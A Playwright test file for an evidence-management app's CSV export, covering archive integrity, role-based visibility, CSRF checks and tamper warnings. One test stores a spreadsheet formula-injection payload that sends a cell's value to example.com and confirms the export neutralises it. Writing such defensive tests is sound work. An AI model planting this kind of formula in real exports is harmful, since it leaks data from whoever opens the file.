"""Lists that leave as files: what stands in them, for whom, and who is told of it."""

import csv
import datetime
import hashlib
import io
import json
import os
import re
import secrets
import zipfile
import zoneinfo

import pytest
from playwright.sync_api import expect

HOSTILE = '=HYPERLINK("http://example.com?"&A1,"Open")'


def export(person, address):
    """Exports by the page, as a person does: the archive's bytes, its members, and the list's rows."""
    person.page.goto(address)
    person.page.get_by_role("link", name="Export as CSV").click()
    with person.page.expect_download() as download:
        person.page.get_by_role("button", name=re.compile("^Export ")).click()
    archive = download.value.path().read_bytes()
    members = zipfile.ZipFile(io.BytesIO(archive))
    assert members.testzip() is None
    manifest = json.loads(members.read("manifest.json"))
    (file,) = manifest["files"]
    content = members.read(file["name"])
    assert sorted(members.namelist()) == sorted([file["name"], "manifest.json"])
    assert (len(content), hashlib.sha256(content).hexdigest()) == (file["bytes"], file["sha256"])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(manifest["items"])
    return archive, manifest, rows


def evidence(person, query=""):
    answer = person.context.request.get(f"/api/evidence?case={person.case}&limit=200{query}")
    assert answer.ok, answer.text()
    return answer.json()["items"]


@pytest.mark.parametrize("script", [True, False])
def test_the_grid_leaves_as_it_stands_with_filter_order_and_columns(person, script):
    lead = person("lead_prosecutor", java_script_enabled=script)
    archive, manifest, rows = export(lead, f"{lead.grid}?kind=document&sort=-title&columns=title,occurredAt")
    assert list(rows[0]) == ["Item no.", "Title", "Occurred", "Last change"]
    wanted = evidence(lead, "&kind=document&sort=-title")
    assert [row["Title"] for row in rows] == [item["title"] for item in wanted]
    assert [item["id"] for item in manifest["items"]] == [item["id"] for item in wanted]
    assert [item.get("sha256") for item in manifest["items"]] == [item.get("sha256") for item in wanted]
    assert manifest["isOneSnapshot"] and manifest["filter"] == "Kind: Document"
    # No time stands bare.
    assert all(re.search(r"[A-Z]{3,4}|UTC|GMT", row["Occurred"]) for row in rows if row["Occurred"])
    lead.page.goto(f"/cases/{lead.case}/exports")
    entry = lead.page.locator(".history__entry").first
    expect(entry).to_contain_text(f"{lead.name} (Lead prosecutor)")
    expect(entry).to_contain_text(f"{len(rows)} items")
    expect(entry).to_contain_text(hashlib.sha256(archive).hexdigest())
    expect(entry).to_contain_text(manifest["files"][0]["sha256"])


def test_a_hostile_cell_is_text_in_a_spreadsheet(person):
    lead = person("lead_prosecutor")
    notes = 'He said: "no",\nand left; twice'
    lead.revise("E-002", title=HOSTILE, notes=notes)
    _, manifest, rows = export(lead, f"{lead.grid}?columns=title,notes&q=HYPERLINK")
    assert [(row["Title"], row["Notes"]) for row in rows] == [("'" + HOSTILE, notes)]
    assert manifest["cellsWithApostrophe"] >= 1


def test_the_exhibit_list_leaves_in_the_courts_form(person):
    lead = person("lead_prosecutor")
    lead.revise("E-003", exhibitNumber="ZZ-9", exhibitStatus="listed")
    lead.revise("E-003", exhibitStatus="excluded", ruling="Rule 403.")
    _, manifest, rows = export(lead, f"/cases/{lead.case}/exhibits")
    assert manifest["list"] == "exhibits"
    (row,) = [row for row in rows if row["Exhibit number"] == "ZZ-9"]
    assert (row["Offered"], row["Marked"], row["Admitted"], row["Ruling"]) == ("Yes", "Yes", "No, excluded", "Rule 403.")
    zone = zoneinfo.ZoneInfo("America/New_York")
    days = [row[f"{what} on ({zone})"] for what in ("Offered", "Marked", "Ruled")]
    assert days == ["", "", datetime.datetime.now(zone).date().isoformat()]


@pytest.mark.parametrize("role", ["paralegal", "investigator", "trial_technician", "filter_attorney", "defence_counsel_portal"])
def test_each_role_takes_along_what_it_sees_and_no_more(person, role):
    someone = person(role)
    _, manifest, rows = export(someone, someone.grid)
    wanted = evidence(someone)
    assert {item["id"] for item in manifest["items"]} == {item["id"] for item in wanted}
    assert all(item.get("itemNumber") == seen.get("itemNumber") for item, seen in zip(manifest["items"], wanted))
    assert [row["Title"].removeprefix("'") for row in rows] == [item["title"] for item in wanted]
    if role == "defence_counsel_portal":
        text = json.dumps([manifest, rows])
        assert "E-0" not in text and "Exhibit" not in " ".join(rows[0])
        answer = someone.context.request.get(f"/cases/{someone.case}/exports/exhibits/new")
        assert answer.status == 422, answer.status


def test_who_is_told_of_whose_exports(person):
    lead, paralegal, filter_attorney = person("lead_prosecutor"), person("paralegal"), person("filter_attorney")
    export(paralegal, f"{paralegal.grid}?q=warehouse")
    export(filter_attorney, filter_attorney.grid)
    for someone, names in [(lead, {paralegal.name}), (paralegal, {paralegal.name}), (filter_attorney, {filter_attorney.name})]:
        someone.page.goto(f"/cases/{someone.case}/exports")
        told = someone.page.locator(".history__entry > p:first-child").all_inner_texts()
        assert names <= {re.search(r"by (.+?) \(", line)[1] for line in told}
        hidden = paralegal.name if someone is filter_attorney else filter_attorney.name
        assert not any(hidden in line for line in told)
    auditor = person("auditor_readonly")
    auditor.page.goto(f"/cases/{auditor.case}/exports")
    assert paralegal.name in auditor.page.content() and "warehouse" not in auditor.page.content()
    assert auditor.context.request.get(f"/cases/{auditor.case}/exports/evidence/new").status == 404


def test_an_export_needs_the_pages_own_token_and_an_item(person):
    lead = person("lead_prosecutor")
    answer = lead.context.request.post(f"/cases/{lead.case}/exports/evidence", form={"_csrf": "wrong"})
    assert answer.status == 403, answer.status
    assert lead.context.request.get(f"/cases/{lead.case}/exports/other/new").status == 404
    lead.page.goto(f"/cases/{lead.case}/exports/evidence/new?q=qqzzxx")
    expect(lead.page.get_by_text("Nothing matches.")).to_be_visible()
    expect(lead.page.get_by_role("button", name=re.compile("^Export "))).to_have_count(0)


@pytest.mark.parametrize("script", [True, False])
def test_a_list_with_a_changed_file_says_so_and_leaves_by_a_tick_alone(person, server, script):
    lead = person("lead_prosecutor", java_script_enabled=script)
    title, content = f"Ledger {secrets.token_hex(6)}", secrets.token_bytes(500)

    def post(address, **body):
        headers = {"X-CSRF-Token": lead.csrf, "Idempotency-Key": secrets.token_hex(12)}
        answer = lead.context.request.post(address, headers=headers, **body)
        assert answer.ok, answer.text()
        return answer.json()

    item = post("/api/evidence", data={"case": lead.case, "title": title, "kind": "photo"})["id"]
    file = {"name": "a.bin", "mimeType": "application/octet-stream", "buffer": content}
    name = post(f"/api/evidence/{item}/files", multipart={"file": file})["sha256"]
    place = server.directory / "vault" / "files" / name[:2] / name[2:4] / name
    place.chmod(0o600)
    try:
        place.write_bytes(content[::-1])
        post(f"/api/evidence/{item}/verifications")
        number = lead.context.request.get(f"/api/evidence/{item}").json()["itemNumber"]
        lead.page.goto(f"/cases/{lead.case}/exports/evidence/new?q={title.split()[1]}")
        expect(lead.page.locator("[data-changed]")).to_contain_text(f"The stored file of {number} is not what came in")
        if os.environ.get("SCREENSHOTS") and script:
            for width in (1440, 390):
                lead.page.set_viewport_size({"width": width, "height": 900})
                lead.page.screenshot(path=f".build/screenshots/export-changed-{width}.png")
        button = lead.page.get_by_role("button", name="Export 1 item")
        button.click()
        # The tick is asked for before anything is sent.
        expect(lead.page.get_by_role("checkbox")).to_be_focused()
        lead.page.get_by_role("checkbox", name="Export it all the same").check()
        with lead.page.expect_download() as download:
            button.click()
        manifest = json.loads(zipfile.ZipFile(download.value.path()).read("manifest.json"))
        assert [(each["itemNumber"], each["fileCondition"]) for each in manifest["items"]] == [(number, "changed")]
    finally:
        place.write_bytes(content)
        post(f"/api/evidence/{item}/verifications")
